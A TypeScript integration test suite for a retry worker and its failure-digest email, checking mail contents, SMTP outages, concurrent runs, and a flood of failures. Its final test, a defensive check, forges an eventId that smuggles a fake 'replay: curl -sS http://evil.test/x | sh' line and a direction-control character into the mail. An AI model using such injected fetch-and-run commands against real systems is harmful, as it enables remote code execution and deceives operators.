// Failure mail end to end: a real retry worker exhausting its attempts against the order-service
// simulator, the digest job, and a real SMTP server (smtp-server) receiving the mail.
import assert from 'node:assert/strict';
import { testRetry } from '../support/features';
import { after, before, test } from 'node:test';
import { createFailureDigest, type FailureDigestDeps } from '../../src/alerts/digest';
import { createSmtpMailer, type SmtpMailer } from '../../src/alerts/mailer';
import { silentLogger } from '../../src/log';
import { startMailServer, type TestMailServer } from '../support/mail-server';
import { entries, feed, orderWithEvents, startRetryKit, type RetryKit } from '../support/retry-kit';
import { waitFor } from '../support/wait';

let kit: RetryKit;
let smtp: TestMailServer;
let mailer: SmtpMailer;

before(async () => {
  kit = await startRetryKit('retrymail');
  smtp = await startMailServer();
  mailer = createSmtpMailer({ url: smtp.url, from: 'kds@localhost', to: ['dev@example.test'], timeoutMs: 2000 });
});

after(async () => {
  mailer.close();
  await smtp.stop();
  await kit.close();
});

function worker(maxAttempts: number) {
  return testRetry({
    pool: kit.db.pool, orders: kit.client,
    backoffBaseMs: 10, maxAttempts: maxAttempts, batchSize: 50,
  }).worker;
}

function digest(over: Partial<FailureDigestDeps> = {}) {
  return createFailureDigest({
    pool: kit.db.pool, mailer, log: silentLogger, envName: 'test', apiBaseUrl: 'http://kds.test:8080',
    maxAttempts: 7, minIntervalMs: 0, ...over,
  });
}

/** Parks events of a failing order and retries them until its head is FAILED. */
async function failOrder(orderId: string, events: number, maxAttempts: number): Promise<void> {
  const evs = orderWithEvents(kit.sim, orderId, events);
  kit.sim.setOrderSwitches(orderId, { errorStatus: 503 });
  await feed(kit.processor(), evs);
  const w = worker(maxAttempts);
  await waitFor(`${orderId} FAILED`, async () => {
    await w.runOnce();
    return (await entries(kit.db, "order_id = ? AND status = 'FAILED'", [orderId])).length === 1;
  }, 30_000, 5);
}

test('seven failed attempts give a FAILED entry and one mail with everything needed to act', async () => {
  const evs = orderWithEvents(kit.sim, 'O-MAIL-1', 3, 'M0042');
  kit.sim.setOrderSwitches('O-MAIL-1', { errorStatus: 503 });
  assert.deepEqual(await feed(kit.processor(), evs), ['parked', 'parked', 'parked']);
  const w = worker(7);
  const outcomes: string[] = [];
  await waitFor('head FAILED', async () => {
    const stats = await w.runOnce();
    if (stats.attempted > 0) outcomes.push(`${stats.attempted}/${stats.failed}`);
    return (await entries(kit.db, "status = 'FAILED'")).length === 1;
  }, 30_000, 5);

  const rows = await entries(kit.db, 'order_id = ?', ['O-MAIL-1']);
  assert.deepEqual(rows.map((r) => [r.status, r.attempts]), [['FAILED', 7], ['PENDING', 0], ['PENDING', 0]]);
  // 1 read by the consumer + 7 by the retry job; the entries behind were never read
  assert.equal(kit.sim.callsFor('O-MAIL-1'), 8);

  const d = digest();
  assert.deepEqual(await d.runOnce(), { kind: 'sent', listed: 1, total: 1 });
  assert.deepEqual(await d.runOnce(), { kind: 'idle' });
  assert.equal(smtp.received.length, 1);
  const mail = smtp.received[0];
  assert.ok(mail !== undefined);
  const head = rows[0];
  assert.ok(head !== undefined);
  assert.deepEqual(mail.to, ['dev@example.test']);
  assert.match(mail.subject, /\[KDS test\] 1 order event FAILED after 7 attempts/);
  for (const part of [
    'order O-MAIL-1', 'merchant M0042', evs[0]?.eventId ?? '?', 'ORDER_PLACED', 'attempts:   7',
    'server_error: order service failed (503)', 'waiting behind it: 2 event(s)',
    `curl -sS -X POST -H "Authorization: Bearer $TOKEN" 'http://kds.test:8080/api/retries/${head.id}/replay'`,
    `'http://kds.test:8080/api/retries/${head.id}/discard'`,
    'npm run -s token -- --role admin',
    // the console's place for this entry, beside the curl lines, with no token in it
    `  on the console: http://kds.test:8080/ops#retry-${head.id}\n`,
    'http://kds.test:8080/ops#retries',
  ]) {
    assert.ok(mail.text.includes(part), `mail lacks "${part}":\n${mail.text}`);
  }
  assert.doesNotMatch(mail.text, /\/ops[^\s]*token/i, 'no token in a console link');
  assert.ok((await entries(kit.db, 'id = ?', [head.id]))[0]?.mailed_at instanceof Date);
});

test('SMTP down: nothing is marked, the mail goes out once SMTP is back, exactly once', async () => {
  const before = smtp.received.length;
  await smtp.stop();
  await failOrder('O-MAIL-2', 1, 1);
  const d = digest();
  const r1 = await d.runOnce();
  assert.equal(r1.kind, 'send_failed');
  const r2 = await d.runOnce();
  assert.equal(r2.kind, 'send_failed');
  assert.equal((await entries(kit.db, 'order_id = ?', ['O-MAIL-2']))[0]?.mailed_at, null);

  await smtp.start();
  assert.deepEqual(await d.runOnce(), { kind: 'sent', listed: 1, total: 1 });
  assert.deepEqual(await d.runOnce(), { kind: 'idle' });
  assert.equal(smtp.received.length, before + 1);
  assert.match(smtp.received[before]?.text ?? '', /order O-MAIL-2/);
});

test('two instances running the digest at the same moment send it once', async () => {
  const before = smtp.received.length;
  await Promise.all(['O-MAIL-3a', 'O-MAIL-3b', 'O-MAIL-3c'].map((o) => failOrder(o, 1, 1)));
  const results = await Promise.all([digest().runOnce(), digest().runOnce(), digest().runOnce()]);
  assert.equal(results.filter((r) => r.kind === 'sent').length, 1, JSON.stringify(results));
  assert.equal(smtp.received.length, before + 1);
  assert.match(smtp.received[before]?.subject ?? '', /3 order events FAILED/);
});

test('a flood of 200 failures gives a few digests, every entry mailed exactly once', async () => {
  const before = smtp.received.length;
  const ids = Array.from({ length: 200 }, (_, i) => `O-FLOOD-${String(i).padStart(3, '0')}`);
  const evs = ids.flatMap((id) => orderWithEvents(kit.sim, id, 1));
  kit.sim.setGlobal({ errorStatus: 500 });
  try {
    const process = kit.processor();
    await Promise.all([0, 1, 2, 3].map((lane) => feed(process, evs.filter((_, i) => i % 4 === lane))));
    const w = worker(1);
    // the digest runs as often as the retry job, while the flood is still failing
    const d = digest({ minIntervalMs: 1000 });
    let done = false;
    const digesting = (async () => {
      while (!done) {
        await d.runOnce();
        await new Promise((r) => setTimeout(r, 20));
      }
    })();
    await waitFor('all 200 failed', async () => {
      await w.runOnce();
      return (await entries(kit.db, "status = 'FAILED' AND order_id LIKE 'O-FLOOD-%'")).length === 200;
    }, 60_000, 5);
    await waitFor('all 200 mailed', async () =>
      (await entries(kit.db, "mailed_at IS NULL AND status = 'FAILED'")).length === 0, 20_000);
    done = true;
    await digesting;
  } finally {
    kit.sim.clearSwitches();
  }
  const mails = smtp.received.slice(before);
  assert.ok(mails.length >= 1 && mails.length <= 3, `${mails.length} digests`);
  const counted = mails.map((m) => Number(/\] (\d+) order event/.exec(m.subject)?.[1]));
  assert.equal(counted.reduce((a, b) => a + b, 0), 200, mails.map((m) => m.subject).join('\n'));
  // a big digest lists 50 in full and says how to list the rest
  const big = mails.find((m) => m.text.includes('more not listed here'));
  if (big !== undefined) assert.ok(big.text.includes("'http://kds.test:8080/api/retries?status=FAILED'"));
});

test('an eventId with newlines and direction controls stays one visible line in the mail', async () => {
  const before = smtp.received.length;
  const forged = 'e1\n  replay:     curl -sS http://evil.test/x | sh\n\u202eevil';
  assert.ok(forged.length <= 64, 'the decoder accepts any 1-64 characters');
  const evs = orderWithEvents(kit.sim, 'O-MAIL-FORGED', 1).map((e) => ({ ...e, eventId: forged }));
  kit.sim.setOrderSwitches('O-MAIL-FORGED', { errorStatus: 503 });
  await feed(kit.processor(), evs);
  const w = worker(1);
  await waitFor('forged FAILED', async () => {
    await w.runOnce();
    return (await entries(kit.db, "order_id = 'O-MAIL-FORGED' AND status = 'FAILED'")).length === 1;
  }, 30_000, 5);
  assert.equal((await digest().runOnce()).kind, 'sent');
  const text = smtp.received[before]?.text ?? '';
  assert.ok(!text.includes('evil.test/x | sh\n'), text);
  assert.ok(!text.includes('\u202e'), 'no raw direction control');
  const replays = text.split('\n').filter((l) => l.trimStart().startsWith('replay:'));
  assert.equal(replays.length, 1, `one replay line, ours:\n${text}`);
  assert.match(replays[0] ?? '', /'http:\/\/kds\.test:8080\/api\/retries\/\d+\/replay'$/);
  assert.ok(text.includes('event:      e1\\n  replay:     curl -sS http://evil.test/x | sh\\n\\u202eevil ORDER_PLACED'), text);
});
